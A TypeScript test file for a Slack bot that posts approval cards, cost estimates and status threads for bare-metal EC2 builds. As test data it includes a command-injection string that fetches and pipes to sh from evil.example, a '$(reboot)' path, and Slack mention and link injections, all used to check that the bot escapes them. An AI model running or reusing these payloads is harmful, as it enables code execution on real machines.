import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Build, Status } from '../../domain/build';
import { STATUSES, capLogTail } from '../../domain/build';
import { parseConfig } from '../../domain/config';
import { costBetween } from '../../domain/cost';
import type { Block } from '../../domain/ports';
import { SlackChat } from '../../adapters/slack/chat';
import { buildCard } from '../../views/card';
import { SECTION_TEXT_MAX, finalCostMessage, threadMessage, warningEndedMessage, warningMessage } from '../../views/thread';
import { createSlackWebClient } from '../../adapters/slack/web-client';
import { INSTANCE_ID, aBuild, aLaunchedBuild, anApprovedBuild, aQueuedBuild, at } from '../../stand-ins/build-fixture';
import type { SlackApi } from '../../stand-ins/slack-api';
import { SANDBOX_CHANNEL, startSlackApi } from '../../stand-ins/slack-api';

// The messages people read: what each status shows, which buttons it carries, what is
// broadcast, and that Slack's Block Kit limits hold for every one of them.

const SIGNING_SECRET = 'test-signing-secret-0123456789';
const BOT_TOKEN = 'xoxb-test-0000-secret-bot-token';
const config = parseConfig({ SLACK_SIGNING_SECRET: SIGNING_SECRET, SLACK_BOT_TOKEN: BOT_TOKEN });
const ctx = { config, now: new Date(at(5)) };
const REQUESTER_MENTION = '<@U0REQUESTER>';

type Button = { action_id: string; value: string; style?: string; text: { text: string }; confirm?: { text: { text: string } } };

function buttonsOf(blocks: Block[]): Button[] {
  return blocks.filter((b) => b.type === 'actions').flatMap((b) => b.elements as Button[]);
}

function sectionTexts(blocks: Block[] = []): string[] {
  return blocks.flatMap((b) => {
    const texts: string[] = [];
    const text = b.text as { text?: string } | undefined;
    if (text?.text) texts.push(text.text);
    for (const f of (b.fields as Array<{ text: string }> | undefined) ?? []) texts.push(f.text);
    for (const e of (b.elements as Array<{ text?: unknown }> | undefined) ?? []) if (typeof e.text === 'string') texts.push(e.text);
    return texts;
  });
}

const ARTIFACT_KEY = 'builds/build-20261125-170052-a1b2/hedgehog-lab-prewarmed-0.0.0-abc1234.ova';

/** A plausible record for every status, as the status table leaves it. */
function buildIn(status: Status): Build {
  const ended = { CompletionTime: at(92) };
  switch (status) {
    case 'awaiting_approval':
      return aBuild();
    case 'queued':
      return aQueuedBuild();
    case 'approved':
      return anApprovedBuild();
    case 'launching':
    case 'building':
    case 'uploading':
      return aLaunchedBuild(status);
    case 'completed':
      return aLaunchedBuild('uploading', {
        Status: 'completed',
        ...ended,
        ActualCommit: 'abc1234def5678abc1234def5678abc1234def56',
        ArtifactKey: ARTIFACT_KEY,
        ArtifactBytes: 41_234_567_890,
        ArtifactSha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        BuildDurationSeconds: 5_160,
      });
    case 'failed':
      return aLaunchedBuild('building', {
        Status: 'failed',
        ...ended,
        ErrorMessage: 'packer build exited with status 1',
        LogTail: "==> qemu: waiting for SSH\nBuild 'qemu' errored: timeout waiting for SSH",
        LogKey: 'builds/build-20261125-170052-a1b2/logs/build.log',
      });
    case 'terminated':
      return aLaunchedBuild('building', {
        Status: 'terminated',
        ForcedTermination: true,
        TerminationReason: 'forced',
        CompletionTime: at(182),
        TerminatedAt: at(183),
        ActualCost: 11.9,
      });
    case 'cancelled':
      return aBuild({ Status: 'cancelled', CancelledBy: 'U0REQUESTER' });
    case 'rejected':
      return aBuild({ Status: 'rejected', DeniedBy: 'U0APPROVER' });
    case 'expired':
      return aBuild({ Status: 'expired' });
  }
}

describe('the card', () => {
  it('after the first of two approvals names who approved and who may still approve: neither the first approver nor the requester', () => {
    const strict = parseConfig({
      SLACK_SIGNING_SECRET: SIGNING_SECRET,
      SLACK_BOT_TOKEN: BOT_TOKEN,
      APPROVER_IDS: 'U0LEAD,U0REQUESTER,U0OTHER',
      SECOND_APPROVAL_ABOVE_USD: '10',
    });
    const card = buildCard(aBuild({ FirstApprover: 'U0LEAD', FirstApprovedAt: at(3) }), { config: strict, now: new Date(at(5)) });
    const status = sectionTexts(card.blocks).find((t) => t.includes('1 of 2 approvals'));
    expect(status).toContain('1 of 2 approvals, by <@U0LEAD>; a second approver is needed (may still approve: <@U0OTHER>)');
    // Before any approval: every approver but the requester.
    const first = sectionTexts(buildCard(aBuild(), { config: strict, now: new Date(at(5)) }).blocks).find((t) => t.includes('needs two approvals'));
    expect(first).toContain('approvers: <@U0LEAD>, <@U0OTHER>');
  });

  it('awaiting approval: approve (primary, confirm naming $11.83 and $19.71) and deny (danger), each valued with the BuildID', () => {
    const build = aBuild();
    const { blocks } = buildCard(build, ctx);
    const [approve, deny, ...rest] = buttonsOf(blocks);
    expect(rest).toEqual([]);
    expect(approve).toMatchObject({ action_id: 'approve_build', style: 'primary', value: build.BuildID });
    expect(approve?.confirm?.text.text).toContain('$11.83');
    expect(approve?.confirm?.text.text).toContain('$19.71');
    expect(deny).toMatchObject({ action_id: 'deny_build', style: 'danger', value: build.BuildID });
  });

  it('awaiting approval: header, request facts, cost table with line items, safety limits, builds already running', () => {
    const other = aLaunchedBuild('building', { BuildID: 'build-20261125-160000-zzzz', BuildBranch: 'release/1.2', Requester: 'U0OTHER' });
    const { blocks, text } = buildCard(aBuild(), { ...ctx, running: [other] });
    expect(blocks[0]).toEqual({ type: 'header', text: { type: 'plain_text', text: 'metal-build · main', emoji: true } });
    const all = sectionTexts(blocks).join('\n');
    for (const fact of ['`main`', '`abc1234`', REQUESTER_MENTION, 'c5n.metal', 'us-east-1', '500 GB', '1.5 h']) expect(all).toContain(fact);
    expect(all).toContain('Expected (1.5 h): *$5.91* — instance $5.83 + disk $0.08');
    expect(all).toContain('Maximum (3 h): *$11.83* — instance $11.66 + disk $0.16');
    expect(all).toContain('Maximum with extensions (5 h): *$19.71* — instance $19.44 + disk $0.27');
    expect(all).not.toContain('transfer');
    expect(all).toMatch(/Warning after 2 h; forced termination at 3 h/);
    expect(all).toContain('up to 2 h more');
    expect(all).toContain('expires at 17:30 UTC (30 min without approval)');
    expect(all).toContain('`build-20261125-160000-zzzz` · `release/1.2` · building · <@U0OTHER>');
    expect(all).toContain('(limit 1 at a time — all slots are taken; as of 17:05 UTC)');
    // A redraw that did not read the running builds says nothing about them, rather than "none".
    expect(sectionTexts(buildCard(aBuild(), ctx).blocks).join('\n')).not.toContain('already running');
    expect(text).toBe('metal-build main @ abc1234 (build-20261125-170052-a1b2): ⏳ awaiting approval, expected $5.91, maximum $11.83');
  });

  it('shows the transfer line item when TRANSFER_GB > 0, and "branch head" without a commit', () => {
    const withTransfer = parseConfig({ SLACK_SIGNING_SECRET: 's', SLACK_BOT_TOKEN: 'xoxb-test', TRANSFER_GB: '100' });
    const all = sectionTexts(buildCard(aBuild({ BuildCommit: undefined }), { config: withTransfer, now: ctx.now }).blocks).join('\n');
    expect(all).toContain('transfer $9.00 (100 GB)');
    expect(all).toContain('*Commit*\nbranch head');
  });

  it('carries the right buttons for every status: cancel (danger, confirm) while queued, approved or running, Rebuild after a failure, terminate or cancel', () => {
    const actionsByStatus = Object.fromEntries(STATUSES.map((s) => [s, buttonsOf(buildCard(buildIn(s), ctx).blocks).map((b) => b.action_id)]));
    expect(actionsByStatus).toEqual({
      awaiting_approval: ['approve_build', 'deny_build'],
      queued: ['cancel_build'],
      approved: ['cancel_build'],
      launching: ['cancel_build'],
      building: ['cancel_build'],
      uploading: ['cancel_build'],
      completed: [],
      failed: ['rebuild_build'],
      terminated: ['rebuild_build'],
      cancelled: ['rebuild_build'],
      rejected: [],
      expired: [],
    });
    const cancel = buttonsOf(buildCard(buildIn('building'), ctx).blocks)[0];
    expect(cancel).toMatchObject({ style: 'danger', value: aBuild().BuildID });
    expect(cancel?.confirm?.text.text).toContain(INSTANCE_ID);
    // Once rebuilt, the card points at the new request and offers no second Rebuild.
    const rebuilt = buildCard({ ...buildIn('failed'), RebuiltAs: 'build-20261203-090000-ab12' }, ctx).blocks;
    expect(buttonsOf(rebuilt)).toEqual([]);
    expect(JSON.stringify(rebuilt)).toContain('rebuilt as `build-20261203-090000-ab12`');
  });

  it('once launched: approver, machine, elapsed time and cost so far since LaunchTime', () => {
    const now = new Date(at(62));
    const build = aLaunchedBuild('building');
    const { blocks, text } = buildCard(build, { config, now });
    const all = sectionTexts(blocks).join('\n');
    const cost = costBetween('c5n.metal', 500, at(2), at(62), {}, 'c5n.metal');
    expect(cost).toBe(3.94);
    expect(all).toContain('🔨 *Building*');
    expect(all).toContain('*Approved by* <@U0APPROVER> at 17:01 UTC');
    expect(all).toContain(`*Machine* \`${INSTANCE_ID}\` · c5n.metal · us-east-1a`);
    expect(all).toContain('*Elapsed* 1 h · *cost so far* $3.94');
    expect(all).toContain('20:02 UTC (3 h limit)');
    expect(all).not.toContain('Cost estimate');
    expect(text).toContain('building, cost so far $3.94');
  });

  it('uses ActualCost once EC2 reported the end', () => {
    const all = sectionTexts(buildCard(buildIn('terminated'), ctx).blocks).join('\n');
    expect(all).toContain('*cost* $11.90');
    expect(all).toContain('reached its limit of 3 h');
  });
});

describe('thread messages', () => {
  it('broadcast completed, failed, terminated and expired with a mention of the requester; keep the rest in the thread', () => {
    const loud = new Set<Status>(['completed', 'failed', 'terminated', 'expired']);
    for (const status of STATUSES) {
      const m = threadMessage(buildIn(status), ctx);
      expect({ status, broadcast: m.broadcast }).toEqual({ status, broadcast: loud.has(status) });
      if (loud.has(status)) {
        expect(m.text).toContain(REQUESTER_MENTION);
        if (m.blocks) expect(sectionTexts(m.blocks)[0]).toContain(REQUESTER_MENTION);
      }
    }
  });

  it('completed: S3 URI, size, sha256, duration and type, a ready aws s3 cp command (URI quoted) and the cost', () => {
    const m = threadMessage({ ...buildIn('completed'), InstanceType: 'm8i.8xlarge' }, { config, now: new Date(at(95)) });
    const all = sectionTexts(m.blocks).join('\n');
    const uri = `s3://hedgehog-lab-artifacts/${ARTIFACT_KEY}`;
    expect(all).toContain(`\`${uri}\` (41.2 GB)`);
    expect(all).toContain('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    expect(all).toContain('*completed* in 1 h 26 min on m8i.8xlarge.');
    expect(all).toContain(`\`\`\`\naws s3 cp "${uri}" .\n\`\`\``);
    expect(all).toMatch(/Cost about \$\d+\.\d\d; final when EC2 reports the machine's end\./);
    expect(all).not.toContain('so far');
    expect(m.text).toContain(`Download: \`aws s3 cp "${uri}" .\``);
  });

  it('failed: ErrorMessage and LogTail in code blocks, the log download and the CloudWatch group', () => {
    const m = threadMessage(buildIn('failed'), ctx);
    const all = sectionTexts(m.blocks).join('\n');
    expect(all).toContain('*failed*:\n```\npacker build exited with status 1\n```');
    expect(all).toContain("```\n==&gt; qemu: waiting for SSH\nBuild 'qemu' errored: timeout waiting for SSH\n```");
    expect(all).toContain('`aws s3 cp "s3://hedgehog-lab-artifacts/builds/build-20261125-170052-a1b2/logs/build.log" .`');
    expect(all).toContain('/labapp/metal-builds/build-20261125-170052-a1b2');
    expect(m.text).toContain('failed: `packer build exited with status 1`');
  });

  it('offers no copy-paste command for a stored key a shell could expand, and shows it inert', () => {
    const key = 'builds/x/a.ova" . ; curl https://evil.example/p | sh ; echo "';
    const done = threadMessage({ ...buildIn('completed'), ArtifactKey: key }, { config, now: new Date(at(95)) });
    expect(JSON.stringify(done)).not.toContain('aws s3 cp');
    expect(sectionTexts(done.blocks).join('\n')).toContain('`s3://hedgehog-lab-artifacts/builds/x/a.ova" . ; curl https://evil.example/p | sh ; echo "`');
    const failed = threadMessage({ ...buildIn('failed'), LogKey: 'builds/$(reboot)/logs/build.log' }, ctx);
    expect(JSON.stringify(failed)).not.toContain('aws s3 cp');
  });

  it('keeps machine text inert everywhere: no mention, no labelled link, no fence that ends the block, even when cut', () => {
    const hostile = '<!channel> <!here> <@U0TARGET> <!subteam^S1|devs> @here @channel @everyone <https://evil.example|fix> ````';
    const long = capLogTail(`${'filler line\n'.repeat(300)}${hostile}\n${'x'.repeat(2000)} ${hostile}`);
    for (const m of [
      threadMessage({ ...buildIn('failed'), ErrorMessage: hostile, LogTail: hostile }, ctx),
      threadMessage({ ...buildIn('failed'), ErrorMessage: hostile, LogTail: long }, ctx),
      buildCard({ ...buildIn('failed'), ErrorMessage: hostile }, ctx),
    ]) {
      // The console links are the view's own (views/console-links.ts); every other link would be the text's.
      const shown = [m.text, ...sectionTexts(m.blocks)]
        .join('\n')
        .replace(/<https:\/\/us-east-1\.console\.aws\.amazon\.com\/[^|>]*\|open in the AWS console>/g, '');
      for (const live of ['<!', '<@U0TARGET', '<https', '@here', '@channel', '@everyone']) expect(shown, live).not.toContain(live);
      // Each code block opens and closes exactly where the view put it: no ``` from the text.
      for (const text of sectionTexts(m.blocks)) expect((text.match(/```/g) ?? []).length % 2).toBe(0);
    }
    const logSection = sectionTexts(threadMessage({ ...buildIn('failed'), LogTail: long }, ctx).blocks).find((t) => t.startsWith('*Last log lines*'))!;
    expect(logSection).toContain('… (earlier lines cut)');
    expect((logSection.match(/```/g) ?? []).length).toBe(2);
  });

  it('cuts a long LogTail from its start so the section stays within 3000 characters, keeping the last line', () => {
    const lines = Array.from({ length: 400 }, (_, i) => `step ${i}: <tag> & more`);
    const tail = capLogTail(lines.join('\n'));
    const m = threadMessage({ ...buildIn('failed'), LogTail: tail }, ctx);
    const logSection = sectionTexts(m.blocks).find((t) => t.startsWith('*Last log lines*'));
    expect(logSection).toBeDefined();
    expect(logSection!.length).toBeLessThanOrEqual(SECTION_TEXT_MAX);
    expect(logSection).toContain('step 399: &lt;tag&gt; &amp; more\n```');
    expect(logSection).toContain('… (earlier lines cut)\nstep ');
    expect(logSection).not.toContain('step 0:');
  });

  it('escapes what the runner sends, so a log cannot ping the channel', () => {
    const m = threadMessage({ ...buildIn('failed'), ErrorMessage: 'boom <!channel>' }, ctx);
    expect(m.text).not.toContain('<!channel>');
    expect(JSON.stringify(m.blocks)).not.toContain('<!channel>');
  });

  it('says why a build ended: forced limit (with extensions), expiry, cancel, deny, approval', () => {
    expect(threadMessage(buildIn('terminated'), ctx).text).toContain('reached its limit of 3 h');
    expect(threadMessage({ ...buildIn('terminated'), ExtendedHours: 1 }, ctx).text).toContain('reached its limit of 4 h');
    expect(threadMessage({ ...buildIn('terminated'), TerminationReason: 'unexpected' }, ctx).text).toContain('outside metal-build');
    expect(threadMessage(buildIn('terminated'), ctx).text).toContain('Cost $11.90');
    expect(threadMessage(buildIn('expired'), ctx).text).toContain('no approval within 30 minutes');
    expect(threadMessage(buildIn('cancelled'), ctx).text).toContain('Cancelled by <@U0REQUESTER>');
    expect(threadMessage(buildIn('rejected'), ctx).text).toContain('Denied by <@U0APPROVER>');
    expect(threadMessage(buildIn('approved'), ctx).text).toContain('Approved by <@U0APPROVER>');
    expect(threadMessage(buildIn('launching'), ctx).text).toContain(`\`${INSTANCE_ID}\` (c5n.metal) is starting in us-east-1a`);
    expect(threadMessage({ ...buildIn('building'), ActualCommit: 'abc1234def' }, ctx).text).toContain('commit `abc1234def`');
  });
});

describe('the warning', () => {
  it('mentions the requester, says when the machine is terminated and what it cost, offers extend and cancel', () => {
    const build = aLaunchedBuild('building');
    const now = new Date(at(122));
    const m = warningMessage(build, { config, now, deadline: new Date(at(182)) });
    expect(m.broadcast).toBe(true);
    expect(m.text).toContain(REQUESTER_MENTION);
    expect(m.text).toContain('terminated at 20:02 UTC (in 1 h)');
    expect(m.text).toContain(`Cost so far $${costBetween('c5n.metal', 500, at(2), at(122), {}, 'c5n.metal').toFixed(2)}`);
    expect(buttonsOf(m.blocks).map((b) => [b.action_id, b.text.text, b.value])).toEqual([
      ['extend_build', 'Extend 1 h', build.BuildID],
      ['cancel_build', 'Cancel build', build.BuildID],
      ['show_log', 'Show log', build.BuildID],
    ]);
  });
});

describe('every message', () => {
  const everything = () => {
    const out: Array<{ text: string; blocks?: Block[] }> = [];
    for (const s of STATUSES) out.push(buildCard(buildIn(s), ctx), threadMessage(buildIn(s), ctx));
    out.push(warningMessage(aLaunchedBuild('building'), { ...ctx, deadline: new Date(at(182)) }));
    return out;
  };

  it('never contains a secret of the configuration', () => {
    const all = JSON.stringify(everything());
    expect(all).not.toContain(SIGNING_SECRET);
    expect(all).not.toContain(BOT_TOKEN);
  });

  describe('is accepted by Slack (the stand-in checks Block Kit limits)', () => {
    let api: SlackApi;
    beforeAll(async () => {
      api = await startSlackApi();
    });
    afterAll(async () => {
      await api.close();
    });

    it('posts every card, thread message and warning, the longest log tail included', async () => {
      const chat = new SlackChat(createSlackWebClient({ token: api.token, apiUrl: api.url, profile: 'request' }));
      const longTail = capLogTail('x&<>'.repeat(2000));
      const messages = [...everything(), threadMessage({ ...buildIn('failed'), LogTail: longTail }, ctx)];
      for (const m of messages) await chat.post({ channel: SANDBOX_CHANNEL, text: m.text, ...(m.blocks ? { blocks: m.blocks } : {}) });
      expect(api.calls.filter((c) => c.error)).toEqual([]);
      expect(api.messages(SANDBOX_CHANNEL)).toHaveLength(messages.length);
    });
  });
});

describe('the warning once the build ended, and the final cost', () => {
  const launched = aLaunchedBuild('building');
  const endedCtx = { config, now: new Date(at(200)) };
  it.each<[string, Partial<Build>, string]>([
    ['completed', { Status: 'completed', CompletionTime: at(140) }, 'Ended: completed at 19:20 UTC.'],
    ['failed', { Status: 'failed', CompletionTime: at(140) }, 'Ended: failed at 19:20 UTC.'],
    ['forced', { Status: 'terminated', TerminationReason: 'forced', CompletionTime: at(182) }, 'Ended: terminated at its deadline at 20:02 UTC.'],
    ['cancelled', { Status: 'cancelled', CancelledBy: 'U0APPROVER', CompletionTime: at(150) }, 'Ended: cancelled by <@U0APPROVER> at 19:30 UTC.'],
    [
      'ended by EC2',
      { Status: 'terminated', TerminationReason: 'unexpected', TerminatedAt: at(150) },
      'Ended: terminated at 19:30 UTC; the machine ended before the build finished.',
    ],
  ])('%s: no button, one line how it ended', (_name, end, line) => {
    const message = warningEndedMessage({ ...launched, ...end }, endedCtx);
    expect(buttonsOf(message.blocks)).toEqual([]);
    expect(sectionTexts(message.blocks).at(-1)).toBe(line);
    expect(message.text).toContain(line);
    expect(message.text).not.toContain('<@U0REQUESTER>');
  });

  it('the final cost reply: ActualCost and machine time', () => {
    const build: Build = { ...launched, Status: 'completed', TerminatedAt: at(181), ActualCost: 11.74 };
    expect(finalCostMessage(build, endedCtx)).toBe('💵 Final cost: $11.74 (2 h 59 min of c5n.metal).');
  });
});
